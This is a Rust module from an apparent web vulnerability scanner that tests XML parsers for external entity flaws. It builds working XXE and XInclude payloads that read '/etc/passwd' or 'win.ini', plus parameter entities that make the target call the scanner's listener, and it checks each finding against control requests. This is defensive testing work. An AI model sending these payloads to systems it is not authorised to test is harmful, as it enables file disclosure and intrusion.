//! XML external entities: documents whose type declaration makes the parser fetch a file or an address.
//!
//! Bodies that are XML, JSON bodies sent as XML instead, single values that are XML, and uploads, which become drawings. Any
//! other value may be put into a document by the server: there only an inclusion says so. Only a file that everybody may read is
//! named, and no entity holds another.

mod document;
mod sender;

use crawl::{Body, Place, SiteRequest};
use model::check::Outcome;
use model::profile::Payloads;

use self::document::Document;
use self::sender::{Reply, Sender};
use crate::conclude::Sighting;
use crate::data::path::Proof;
use crate::data::point;
use crate::data::verdict::Verdict;
use crate::probe::{Probe, ProbeError};
use crate::{Running, SiteProbe};

/// The words of this check.
pub(crate) const WORDS: &[&str] = &[XXE];
const XXE: &str = "xxe";
/// The most bodies of a site that are tried.
const MOST_BODIES: usize = 60;
/// Files and how they look.
const FILES: [(&str, Proof); 2] =
    [("file:///etc/passwd", Proof::Passwd), ("file:///c:/windows/win.ini", Proof::WinIni)];

/// A drawing with words in it.
const DRAWING: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"90\" height=\"20\"><title>w</title>\
                       <text x=\"2\" y=\"16\">w</text></svg>";

/// Whether a value is a document, or may become part of one: of headers, cookies and paths none does.
pub(crate) fn applies(probe: &Probe<'_>) -> bool {
    let inside = matches!(probe.point.place, Place::Query | Place::FormField | Place::JsonField);
    is_document(probe)
        || sender::is_file(probe)
        || inside && probe.payloads >= Payloads::Normal && point::takes_data(probe)
}

fn is_document(probe: &Probe<'_>) -> bool {
    let value = probe.point.value.trim_start();
    value.starts_with('<') && Document::parse(value).is_some()
        || probe.payloads >= Payloads::Thorough && probe.point.name.to_ascii_lowercase().contains("xml")
}

/// At a value.
pub(crate) fn run<'a>(probe: &'a Probe<'a>) -> Running<'a> {
    Box::pin(async move {
        let mut verdict = Verdict::new(WORDS);
        let end = at_value(probe).await.map(|seen| match seen {
            Some(sighting) => verdict.proven(XXE, probe.observe(sighting)),
            None => verdict.no(XXE),
        });
        verdict.end(end)
    })
}

async fn at_value(probe: &Probe<'_>) -> Result<Option<Sighting>, ProbeError> {
    let sender = Sender::Value(probe);
    if sender::is_file(probe) {
        let drawing = Document::parse(&probe.point.value).or_else(|| Document::parse(DRAWING));
        return match drawing {
            Some(drawing) => prove(&sender, &drawing).await,
            None => Ok(None),
        };
    }
    if is_document(probe) {
        let document = Document::parse(&probe.point.value);
        let document = document.unwrap_or_else(|| Document::of_json(&serde_json::json!({"item": "1"})));
        return prove(&sender, &document).await;
    }
    for (file, proof) in FILES {
        if let Some(sighting) = shown_file(&sender, file, proof, &inclusion, INCLUSION).await? {
            return Ok(Some(sighting));
        }
    }
    Ok(None)
}

/// What names an inclusion in a summary.
const INCLUSION: &str = "an inclusion (XInclude)";

/// An element that asks for the text of a file, and a word behind it.
fn inclusion(file: &str, token: &str) -> String {
    format!(
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{file}\" parse=\"text\"/>{token}"
    )
}

/// At the bodies of a site.
pub(crate) fn run_site<'a>(probe: &'a SiteProbe<'a>) -> Running<'a> {
    Box::pin(async move {
        let mut verdict = Verdict::new(WORDS);
        let mut end = Ok(());
        let mut observed = false;
        let bodies = probe.site.requests.iter().filter_map(|r| Some((r, document_of(r)?)));
        for (request, document) in bodies.take(MOST_BODIES) {
            match prove(&Sender::Body(probe, request), &document).await {
                Ok(Some(sighting)) => {
                    let place = format!("{} {}", request.method, request.url.path());
                    verdict.proven(XXE, probe.observe(sighting, &request.url, place));
                    observed = true;
                }
                Ok(None) => {}
                Err(error) => end = Err(error),
            }
        }
        if end.is_ok() && !observed {
            verdict.no(XXE);
        }
        once(verdict.end(end))
    })
}

/// The outcome with each word once.
fn once(mut outcome: Outcome) -> Outcome {
    outcome.covered.dedup();
    outcome
}

/// The document of a body: XML as it is, JSON as elements.
fn document_of(request: &SiteRequest) -> Option<Document> {
    match &request.body {
        Body::Raw { media_type, text } if media_type.contains("xml") => Document::parse(text),
        Body::Json(value) => Some(Document::of_json(value)),
        _ => None,
    }
}

/// By a file that is shown, by an included file, by a call.
async fn prove(sender: &Sender<'_>, document: &Document) -> Result<Option<Sighting>, ProbeError> {
    if sender.refuses(document).await? {
        return Ok(None);
    }
    for (file, proof) in FILES {
        let entity = |file: &str, token: &str| {
            document.with(&format!("<!ENTITY {token} SYSTEM \"{file}\">"), &format!("&{token};"))
        };
        if let Some(sighting) = shown_file(sender, file, proof, &entity, "an external entity").await? {
            return Ok(Some(sighting));
        }
        let include = |file: &str, token: &str| document.plain(&inclusion(file, token));
        if let Some(sighting) = shown_file(sender, file, proof, &include, INCLUSION).await? {
            return Ok(Some(sighting));
        }
    }
    called(sender, document).await
}

/// Makes a document that names a file; the word is new each time.
type WithFile<'a> = &'a (dyn Fn(&str, &str) -> String + Send + Sync);

async fn shown_file(
    sender: &Sender<'_>,
    file: &str,
    proof: Proof,
    make: WithFile<'_>,
    by: &str,
) -> Result<Option<Sighting>, ProbeError> {
    let attack = sender.send(&make(file, &sender.token())).await?;
    let Some(text) = proof.find(&attack.exchange.response.text()) else { return Ok(None) };
    let beside = format!("{file}-{}", sender.token());
    let control = sender.send(&make(&beside, &sender.token())).await?;
    let again = sender.send(&make(file, &sender.token())).await?;
    let holds = |reply: &Reply| proof.find(&reply.exchange.response.text()).is_some();
    if holds(&control) || !holds(&again) {
        return Ok(None);
    }
    let summary = format!(
        "The parser put a file into the document by {by}: the answer holds {}, twice in two tries; with the name of a file that \
         is not there it does not",
        proof.what()
    );
    Ok(Some(Sighting::confirmed(XXE, summary, sender.evidence(&attack, &control, &text))))
}

/// An entity or a parameter entity that is fetched from the listener.
async fn called(sender: &Sender<'_>, document: &Document) -> Result<Option<Sighting>, ProbeError> {
    let Some(listener) = sender.listener() else { return Ok(None) };
    let general = |url: &str, token: &str| {
        document.with(&format!("<!ENTITY {token} SYSTEM \"{url}\">"), &format!("&{token};"))
    };
    let parameter = |url: &str, token: &str| {
        document.with(&format!("<!ENTITY % {token} SYSTEM \"{url}\"> %{token};"), token)
    };
    let makes: [WithFile<'_>; 2] = [&general, &parameter];
    for make in makes {
        let Some((attack, hit)) = sender.call(listener, make).await? else { continue };
        // Declared and never used, in a comment: an address that is only read is not fetched.
        let idle = |url: &str, token: &str| document.with(&format!("<!-- SYSTEM \"{url}\" -->"), token);
        let silent = sender.token();
        let control = sender.send(&idle(&listener.url(&silent), &sender.token())).await?;
        let again = sender.call(listener, make).await?;
        if again.is_none() || listener.seen(&silent).is_some() {
            continue;
        }
        let summary = format!(
            "The parser fetches external entities: {} asked \"{}\" of the scanner's listener, and again for another random address; \
             the address in a comment was not asked for",
            hit.from, hit.request_line
        );
        return Ok(Some(Sighting::confirmed(
            XXE,
            summary,
            sender.evidence(&attack, &control, listener.marker()),
        )));
    }
    Ok(None)
}
